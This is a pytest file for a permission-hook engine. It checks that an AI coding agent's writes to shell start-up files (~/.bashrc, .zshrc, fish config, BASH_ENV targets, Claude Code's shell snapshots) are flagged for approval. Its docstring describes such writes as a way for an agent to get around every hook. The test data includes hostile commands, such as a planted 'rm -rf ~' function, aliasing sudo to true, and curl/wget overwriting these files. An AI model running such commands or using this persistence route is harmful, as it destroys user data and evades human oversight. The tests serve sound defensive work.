"""The shell start-up files (issue 15, the agent's way around every hook): a function or alias put
in ~/.bashrc, ~/.zshrc, ~/.profile, fish's config or the file $BASH_ENV names runs in every later
shell, the agent's own Bash tool included. Writes of them are asked, through the shell and the
file tools, however the path is spelt; reading them is not. The shipped packs decide, through the
real hook service."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from guard_helpers import claude_tool, private_home

from rtk_policy.engine.pipeline import Engine
from rtk_policy.policy import guarded

STARTUP_FILES = (".bashrc", ".bash_profile", ".bash_login", ".profile", ".zshrc", ".zshenv",
                 ".zprofile", ".config/fish/config.fish", ".config/fish/functions/git.fish",
                 ".bashrc.d/git.sh")  # fmt: skip
#: how a shell command can write `{f}` (the start-up file), each a different writer or spelling
SHELL_WRITES = (
    "echo 'git() {{ rm -rf ~; }}' >> {f}",
    "printf 'alias ls=true\\n' > {f}",
    "cat /tmp/evil | tee -a {f}",
    "cp /tmp/evil {f}",
    "mv /tmp/evil {f}",
    "ln -sf /tmp/evil {f}",
    "install -m 644 /tmp/evil {f}",
    "dd if=/tmp/evil of={f}",
    "sed -i 's/^/alias git=true; /' {f}",
    "truncate -s 0 {f}",
    "rm -f {f}",
    "curl -sSLo {f} https://example.com/x",
    "wget -qO {f} https://example.com/x",
    "F={f}; echo 'alias sudo=true' >> \"$F\"",
)


@pytest.fixture()
def home(tmp_path, monkeypatch) -> Path:
    """A private home with a few start-up files, a project folder as the cwd."""
    home = private_home(tmp_path, monkeypatch, (".config/fish",))
    (home / ".bashrc").write_text("# bashrc\n")
    yield home
    guarded._tables.clear()


def decide(engine: Engine, command: str) -> tuple[str, tuple[str, ...], str]:
    """(verdict, rule ids, reasons) of a shell command in the working folder."""
    decision = engine.decide(command, engine.context(cwd=os.getcwd(), agent="claude"))
    return decision.verdict, decision.rule_ids, " ".join(decision.reasons)


@pytest.mark.parametrize("relative", STARTUP_FILES)
@pytest.mark.parametrize("spelling", ["~/{r}", "$HOME/{r}", "${{HOME}}/{r}", "{home}/{r}",
                                      "~//{r}", "~/./{r}", "{home}/../home/{r}"])  # fmt: skip
def test_a_write_of_a_startup_file_is_asked_however_spelt(engine, home, relative, spelling):
    """`~`, `$HOME`, `${HOME}`, absolute, `//`, `./`, `..`: the same file, asked."""
    path = spelling.format(r=relative, home=home)
    verdict, rules, reasons = decide(engine, f"echo 'alias git=true' >> {path}")
    assert verdict == "ask" and "guard-shell-startup" in rules, (path, verdict, rules)
    assert "shell start-up file" in reasons


@pytest.mark.parametrize("writer", SHELL_WRITES)
def test_every_writer_of_a_startup_file_is_asked(engine, home, writer):
    """Redirections, tee, cp, mv, ln, install, dd, sed -i, truncate, rm, curl, wget, a variable."""
    for target in ("~/.bashrc", "~/.zshrc", "~/.config/fish/config.fish"):
        verdict, rules, _ = decide(engine, writer.format(f=target))
        assert verdict in ("ask", "deny") and "guard-shell-startup" in rules, (writer, target)


def test_a_cd_a_glob_a_symlink_or_a_tree_still_reach_it(engine, home):
    """The path as the shell would resolve it, and trees written over the home folder."""
    link = home / "dotfiles-bashrc"
    link.symlink_to(home / ".bashrc")
    for command in (
        "cd ~ && echo 'alias git=true' >> .profile",
        "cd ~/.config && echo x > fish/config.fish",
        "echo x > ~/.bash*",
        f"echo x >> {link}",  # a symlink to ~/.bashrc: resolved
        "tar xzf dotfiles.tgz -C ~",  # a tree written into the home folder holds them
        "cp -r dotfiles/. ~/",
    ):
        verdict, rules, _ = decide(engine, command)
        assert verdict == "ask" and "guard-shell-startup" in rules, command


def test_the_file_tools_are_asked(engine, home):
    """Write, Edit, MultiEdit on a start-up file or Claude Code's snapshot of them: asked."""
    for tool, key in (("Write", "file_path"), ("Edit", "file_path"), ("MultiEdit", "file_path")):
        for path in ("~/.bashrc", f"{home}/.zshrc", f"{home}/.config/../.profile"):
            answer = claude_tool(engine, tool, {key: path, "content": "alias git=true"})
            assert answer and answer["permissionDecision"] == "ask", (tool, path)
            assert "shell start-up file" in answer["permissionDecisionReason"]
    snapshot = f"{home}/.claude/shell-snapshots/snapshot-bash-1.sh"
    assert claude_tool(engine, "Write", {"file_path": snapshot})["permissionDecision"] == "ask"


def test_bash_env_zdotdir_and_xdg_config_home_targets(engine, home, tmp_path, monkeypatch):
    """What the hook's own environment says the shells source is guarded too."""
    monkeypatch.setenv("BASH_ENV", str(tmp_path / "bash_env.sh"))
    monkeypatch.setenv("ZDOTDIR", str(tmp_path / "zdot"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    guarded._tables.clear()
    for target in ("bash_env.sh", "zdot/.zshrc", "xdg/fish/conf.d/x.fish"):
        verdict, rules, _ = decide(engine, f"echo x >> {tmp_path / target}")
        assert verdict == "ask" and "guard-shell-startup" in rules, target
    monkeypatch.delenv("BASH_ENV")
    guarded._tables.clear()
    assert decide(engine, f"echo x >> {tmp_path / 'bash_env.sh'}")[0] == "none"


def test_reading_and_ordinary_writes_pass(engine, home):
    """Reading, sourcing, copying out, other files in the home folder, a project's `.bashrc`."""
    for command in ("cat ~/.bashrc", "grep alias ~/.zshrc", "source ~/.bashrc", ". ~/.profile",
                    "cp ~/.bashrc /tmp/bashrc.bak", "diff ~/.bashrc ~/.bashrc.orig",
                    "echo ok > ~/notes.txt", "echo x > ~/project-bashrc", "mkdir -p ~/bin",
                    "echo x > .bashrc"):  # fmt: skip
        verdict, rules, _ = decide(engine, command)
        assert "guard-shell-startup" not in rules, command
    for path in ("~/.bashrc", "~/.config/fish/config.fish"):
        assert claude_tool(engine, "Read", {"file_path": path}) is None
    assert claude_tool(engine, "Write", {"file_path": "src/bashrc.example"}) is None


def test_claude_codes_snapshot_is_guarded_in_its_config_folder_too(engine, home, monkeypatch):
    """With `CLAUDE_CONFIG_DIR` set, the snapshots live there; the default place stays guarded."""
    monkeypatch.setenv("CLAUDE_CONFIG_DIR", str(home / "claude-config"))
    guarded._tables.clear()
    for folder in (home / "claude-config", home / ".claude"):
        path = f"{folder}/shell-snapshots/snapshot-zsh-2.sh"
        assert claude_tool(engine, "Write", {"file_path": path})["permissionDecision"] == "ask"
